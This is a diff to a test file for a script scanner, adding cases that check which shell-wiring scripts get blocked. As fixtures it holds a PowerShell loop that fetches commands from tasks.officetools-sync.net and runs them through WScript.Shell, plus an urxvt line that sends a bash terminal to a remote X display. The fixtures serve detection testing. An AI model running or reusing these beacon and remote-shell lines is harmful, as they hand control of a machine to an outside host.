@@ -95,6 +95,14 @@ describe("sockets and clients wired to a shell", () => {
     blocked(scanOf({ "diag.sh": "#!/bin/sh\nurxvt -display help.x11-support-desk.net:0 -e bash &\n" }));
   });
 
+  it("blocks PowerShell that polls a COM HTTP object and runs the reply with WScript.Shell", () => {
+    blocked(scanOf({ "agent.ps1": "$h = New-Object -ComObject MSXML2.XMLHTTP\n$sh = New-Object -ComObject WScript.Shell\nwhile ($true) {\n  $h.open('GET', 'https://tasks.officetools-sync.net/next', $false); $h.send()\n  $job = $h.responseText\n  if ($job) { $sh.Run($job, 0, $true) }\n  Start-Sleep 30\n}\n" }));
+  });
+
+  it("leaves a VBScript that prints a fetched version and opens a fixed program at medium or below", () => {
+    atMostMedium(scanOf({ "check.vbs": "Set http = CreateObject(\"MSXML2.ServerXMLHTTP\")\nhttp.Open \"GET\", \"https://example.org/version.txt\", False\nhttp.Send\nlatest = http.ResponseText\nWScript.Echo \"latest: \" & latest\nCreateObject(\"WScript.Shell\").Run \"notepad.exe\", 1\n" }));
+  });
+
   it("leaves an xterm on the local display at medium or below", () => {
     atMostMedium(scanOf({ "term.sh": "#!/bin/sh\nxterm -display :0 -e bash &\n" }));
   });
